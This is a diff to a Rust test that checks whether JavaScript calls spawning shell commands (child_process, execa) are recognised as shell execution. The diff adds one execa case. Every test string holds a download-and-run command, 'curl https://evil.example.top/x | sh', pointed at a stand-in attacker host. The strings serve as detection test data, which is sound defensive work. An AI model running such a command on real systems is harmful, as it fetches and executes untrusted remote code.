@@ -1967,6 +1967,7 @@ fn shell_commands_run_from_javascript_are_read_as_shell() {
         "cp.spawnSync('curl https://evil.example.top/x | sh', { shell: true })",
         "cp.execSync(['curl', '-s', 'https://evil.example.top/x', '|', 'sh'].join(' '))",
         "require('execa').command('curl https://evil.example.top/x | sh')",
+        "require('execa').execaCommand('curl https://evil.example.top/x | sh')",
     ] {
         let f = run(&format!("const cp = require('child_process');\n{call};"));
         assert!(
